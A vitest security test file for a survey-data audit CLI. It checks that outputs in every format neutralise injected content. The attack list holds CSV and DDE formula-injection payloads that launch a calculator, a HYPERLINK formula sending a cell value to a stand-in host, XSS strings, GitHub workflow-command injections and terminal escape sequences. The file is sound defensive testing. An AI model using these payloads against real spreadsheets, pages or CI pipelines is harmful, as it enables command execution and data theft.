import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { validateXML } from "xmllint-wasm";
import { formatNames, resultFormats } from "../src/cli/output-options.ts";
import { runsAsFormula } from "../src/findings/formula.ts";
import { listEndings } from "../src/formats/corrections.ts";
import { csvLine } from "../src/formats/csv-line.ts";
import type { FormatName } from "../src/formats/index.ts";
import { type Called, call, callForAll, textsIn } from "./cli/call.ts";
import { once } from "./once.ts";

// What others have tried to hide in a file that somebody opens later. They stand wherever a file has
// text of its own: in case ids, cells, names of columns and files, in an instrument's words, in
// figures, and in the reasons of a baseline.
const attacks = [
  ...["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ...["\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("http://x.example/?"&A1,"y")', "＝1+1"],
  ...['=DDE("cmd";"/C calc";"x")', "a;=1+1", 'a",=1+1,"', "_x003D_1+1", "=IMPORTXML(A1)"],
  ...["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>'],
  ...["</td></table></style></script><h1>", "' onmouseover='alert(1)", "javascript:alert(1)"],
  ...["&lt;script&gt;alert(1)", "&#60;script&#62;", "<!--", "]]><x/>", "<?xml version='1.0'?>"],
  ...["[x](javascript:alert(1))", "![x](http://x.example/p.png)", "| a | b |", "`x`", "~~~", "# x"],
  ...["::error::x", "::stop-commands::x", "%0A::error::x", "a\n::error::x", "##[error]x"],
  ...["\u001b[31mred", "\u001b]8;;http://x.example\u0007x", "\u202egpj.exe", "\u2028x", "\u0085x"],
];
/** What a person wrote about somebody; it may stand in no output whatever. */
const secret = "the neighbour of Mrs Example saw it";

const question = (attack: string, n: number) => ({
  id: `q${n}`,
  section: "all",
  label: `${attack} `,
  reference: attack,
  answers: [
    { code: "a", label: attack, also: [`${attack} also`] },
    { code: "b", label: `${attack} b` },
    { code: "c", label: `${attack} c`, outsideBase: true },
  ],
  ...(n > 0 && { askedIf: { q0: "a" } }),
  ...(n === 1 && { role: "judgement" }),
});
const instrument = {
  id: "hostile",
  version: "<script>1",
  unit: "<script>",
  caseId: "case_id",
  title: "<script>alert(1)</script>",
  sections: [{ id: "all", title: "<img src=x onerror=alert(1)>" }],
  questions: [
    ...attacks.map(question),
    { id: "note", section: "all", label: "<b>Note", type: "text", optional: true },
    {
      ...{ id: "aside", section: "all", label: "Aside", type: "text" },
      askedIf: { q0: "b" },
    },
  ],
  measures: [
    {
      ...{ id: "m", section: "all", label: "</td><script>", reference: "=1+1" },
      ...{ count: { q1: "a" }, of: { q0: "a" } },
    },
  ],
};
const header = ["case_id", ...attacks.map((_, n) => `q${n}`), "note", "aside", "", ...attacks];

/** Cases named by the attacks; every third has its attack for an answer too. */
function casesOf(reader: number): string {
  const rows = attacks.map((attack, row) => [
    attack,
    ...attacks.map((_, n) => {
      if (n === 0) return row % 5 === 4 ? "b" : "a";
      if (n === row && row % 3 === 0) return `${attack} x`;
      return (row + n * reader) % 4 === 0 ? "b" : "a";
    }),
    ...[secret, secret, secret],
    ...attacks.map(() => secret),
  ]);
  return [header, ...rows].map(csvLine).join("");
}

const figures = {
  id: "<script>f",
  instrument: "hostile",
  figures: attacks.flatMap((attack, n) => [
    { id: `${attack} ${n}`, at: attack, question: `q${n}`, answer: "a", percent: "50" },
    {
      ...{ id: `${attack} w`, at: attack, question: `q${n}`, answer: ["a", "b"] },
      ...{ between: ["10", "20"], worded: attack },
    },
    { id: `${attack} n`, at: attack, count: 3, notCheckable: attack },
  ]),
};
/** Those of which no two contradict each other, but for one: to find out why takes long. */
const draft = {
  ...figures,
  figures: [
    ...figures.figures.filter(({ id }) => !id.endsWith(" w")),
    { id: "<b>", at: "=1+1", question: "q1", answer: "a", percent: "51" },
  ],
};
const baseline = {
  schema: "da-audit/baseline/1",
  findings: attacks.map((attack) => ({
    ...{ code: "missing-answer", question: attack, caseId: attack, value: "0".repeat(64) },
    reason: attack,
  })),
};

/** A command's result in every format that it has. */
const inAllFormats = once((name: string) =>
  callForAll(commands[name]!, checking.includes(name) ? formatNames : resultFormats),
);

/** What a command writes in a format. */
async function calledFor(name: string, format: FormatName): Promise<Called> {
  // The file that apply writes is not its result.
  if (name === "apply") return call([...commands[name]!, "--format", format]);
  const { written, ...rest } = await inAllFormats(name);
  expect(rest.stdout).toBe("");
  return { ...rest, stdout: written.get(format)! };
}

let folder = "";
let commands: Readonly<Record<string, readonly string[]>> = {};
beforeAll(async () => {
  const name = "=1+1<img src=x onerror=alert(1)>, ::error::[x](y).csv";
  folder = mkdtempSync(join(tmpdir(), "da-audit-attacks-"));
  const files = {
    [name]: casesOf(1),
    "other.csv": casesOf(3),
    "instrument.json": JSON.stringify(instrument),
    "figures.json": JSON.stringify(figures),
    "draft.json": JSON.stringify(draft),
    "baseline.json": JSON.stringify(baseline),
  };
  for (const [file, content] of Object.entries(files)) write(file, content);
  const [cases, other] = [`${folder}/${name}`, `${folder}/other.csv`];
  const own = ["-i", `${folder}/instrument.json`];
  const allowed = [...own, "--allow-errors"];
  const named = ["--figures", `${folder}/figures.json`];
  const list = `${folder}/mend.csv`;
  await call(["validate", cases, ...own, "--corrections", list]);
  const [heads = "", ...rows] = readFileSync(list, "utf8").split("\n");
  // Every cell is answered by what is no answer, so that each stands in what is refused.
  const filled = [heads, ...rows.map((row) => row.replace(/,,(q\d+|note|aside),/, ",=1+1,$1,"))];
  writeFileSync(list, filled.join("\n"));
  commands = {
    validate: ["validate", cases, ...own, "--baseline", `${folder}/baseline.json`],
    score: ["score", cases, ...allowed, "--bases"],
    "score --by": ["score", cases, ...allowed, "--by", "q2,q3", "--min-base", "0"],
    verify: ["verify", cases, ...allowed, ...named],
    check: ["check", `${folder}/draft.json`, ...own, "--cases", "40"],
    compare: ["compare", cases, other, ...allowed],
    agree: ["agree", cases, other, ...allowed, "--settle"],
    explain: ["explain", attacks[0]!, cases, ...own],
    "explain --cases": ["explain", "q3", cases, ...own, "--cases"],
    codebook: ["codebook", ...own],
    apply: ["apply", list, cases, ...own, "-o", `${folder}/fixed.csv`],
  };
});

afterAll(() => rmSync(folder, { recursive: true, force: true }));

function write(name: string, content: string): void {
  writeFileSync(join(folder, name), content);
}

const names = [
  ...["validate", "score", "score --by", "verify", "check", "compare", "agree"],
  ...["explain", "explain --cases", "codebook", "apply"],
];
const checking = ["validate", "verify", "compare"];
const isOfChecks = (format: FormatName) => ["junit", "sarif", "github"].includes(format);
const pairs = formatNames.flatMap((format) =>
  names
    .filter((name) => !isOfChecks(format) || checking.includes(name))
    .map((name) => [format, name] as const),
);

/** What acts on a terminal, or turns the direction in which text is read. */
const acting =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/;

describe.each(pairs)("as %s, %s", (format, name) => {
  test("has every attack as text, and nothing of it acts", async () => {
    const { code, stdout, stderr } = await calledFor(name, format);
    expect({ code, stderr }).toEqual({ code: expect.any(Number), stderr: "" });
    expect(code).toBeLessThan(2);
    expect(stdout.length).toBeGreaterThan(50);
    expect(textsIn(stdout)).not.toMatch(acting);
    expect(`${textsIn(stdout)}${stderr}`).not.toContain("Mrs Example");
    await isHarmless(format, stdout);
  });
});

async function isHarmless(format: FormatName, text: string): Promise<void> {
  switch (format) {
    case "terminal":
      return;
    case "json":
    case "sarif":
      expect(() => JSON.parse(text)).not.toThrow();
      return;
    case "csv": {
      const rows: readonly (readonly string[])[] = parse(text);
      const cells = rows.flat().filter((cell) => !/^-?\d+(\.\d+)?$/.test(cell));
      expect(cells.filter((cell) => /^\s*[=+\-@＝]/.test(cell))).toEqual([]);
      // Nor for a reader that takes another mark for the separator.
      const lines = text.replace(/"[^"]*"/g, "").split(/[;\t|\n,]/);
      expect(lines.filter((cell) => /^\s*[=+@]/.test(cell))).toEqual([]);
      return;
    }
    case "markdown":
      return isHarmlessMarkdown(text);
    case "html":
      return isHarmlessHtml(text);
    case "xlsx":
    case "ods":
      expect(textsIn(text)).not.toMatch(
        /<(f|script|img|ddeLink|oleObject)[ >]|table:formula=|Target="http/,
      );
      return;
    case "junit": {
      const schema = readFileSync("test/reference/junit.xsd", "utf8");
      const { errors } = await validateXML({
        xml: [{ fileName: "r.xml", contents: text }],
        schema,
      });
      expect(errors).toEqual([]);
      return;
    }
    case "github": {
      const said = text.split("\n").filter((line) => line.trimStart().startsWith("::"));
      expect(said.filter((line) => !/^::(error|warning|notice) (file|title)=/.test(line))).toEqual(
        [],
      );
      // A property ends with a comma, and all of them with two colons.
      for (const line of said) {
        const [, properties = ""] = /^::\w+ (.*?)::/.exec(line) ?? [];
        expect(properties).toMatch(/^((file|line|title)=[^,:]*(,|$))+$/);
      }
      expect(text).not.toMatch(/^\s*##\[/m);
    }
  }
}

function isHarmlessMarkdown(text: string): void {
  const bare = text.replace(/\\[\\`*_[\]<>|#~&]/g, "");
  expect(bare).not.toMatch(/[<`[\]~]|&#|^\s*>(?! )/m);
  for (const block of bare
    .trimEnd()
    .split("\n\n")
    .filter((one) => one.startsWith("|"))) {
    const widths = block.split("\n").map((line) => line.split("|").length);
    expect(new Set(widths).size).toBe(1);
  }
}

const elements =
  /^(!doctype|html|head|meta|title|style|body|a|header|h1|h2|ul|li|p|nav|main|section|div|table|caption|thead|tbody|tr|th|td|span|svg|desc|rect|path|line|details|summary|strong|footer|dl|dt|dd|script)$/;

function isHarmlessHtml(page: string): void {
  const own = page.replace(/<(style|script)>[\s\S]*?<\/\1>/g, "");
  expect(page.match(/<script>/g)?.length ?? 0).toBeLessThanOrEqual(1);
  expect(page).toContain("default-src 'none'");
  for (const [, name = "", attributes = ""] of own.matchAll(
    /<\/?([^\s>/]+)((?:[^>"]|"[^"]*")*)>/g,
  )) {
    expect(name).toMatch(elements);
    const bare = attributes.replace(/="[^"]*"/g, "");
    expect(bare).not.toMatch(/\bon\w+|[<'"=]/);
    expect(attributes).not.toMatch(/\b(href|src)="(?!#)/);
  }
}

describe("a list of corrections", () => {
  test.each(listEndings)("as %s has nothing that runs, and no free text", async (ending) => {
    const file = `${folder}/list.${ending}`;
    const { stderr } = await call([...commands.validate!, "--corrections", file]);
    expect(stderr).toMatch(/lists \d+ cells to fix/);
    const bytes = readFileSync(file);
    const text = ending === "csv" ? bytes.toString().slice(1) : bytes.toString("latin1");
    expect(textsIn(text)).not.toContain("Mrs Example");
    await isHarmless(ending, text);
  });
});

describe("files to work on", () => {
  test("have no cell that runs: a template, and invented cases", async () => {
    const own = ["-i", `${folder}/instrument.json`];
    const { stdout } = await call(["codebook", "--template", ...own]);
    await isHarmless("csv", stdout);
    const simple = {
      id: "f",
      instrument: "hostile",
      cases: 20,
      figures: [{ id: "1", at: "p", count: 20 }],
    };
    write("simple.json", JSON.stringify(simple));
    write(
      "few.json",
      JSON.stringify({ ...instrument, questions: instrument.questions.slice(0, 5) }),
    );
    const invented = await call(["synth", `${folder}/simple.json`, "-i", `${folder}/few.json`]);
    expect(invented.code).toBe(0);
    await isHarmless("csv", invented.stdout);
  });

  test("take no answer that runs", async () => {
    const { stdout } = await call([...commands.apply!, "--json"]);
    const { applied, refused } = JSON.parse(stdout);
    // As the label of an answer it means its code, which is what is written.
    const written: readonly string[] = applied.map(({ to }: { to: string | null }) => to ?? "");
    expect(written.filter(runsAsFormula)).toEqual([]);
    expect(refused.length).toBeGreaterThan(100);
  });

  test.each([
    [
      "a code",
      {
        ...instrument,
        questions: [{ ...question("x", 0), answers: [{ code: "=1+1", label: "x" }] }],
        measures: [],
      },
    ],
    ["the case ids’ column", { ...instrument, caseId: "@SUM(A1)" }],
  ])("cannot get one from an instrument: %s", async (_, hostile) => {
    write("bad.json", JSON.stringify(hostile));
    const { code, stderr } = await call(["codebook", "-i", `${folder}/bad.json`]);
    expect(stderr).toContain("a spreadsheet would run it as a formula");
    expect(code).toBe(2);
  });
});
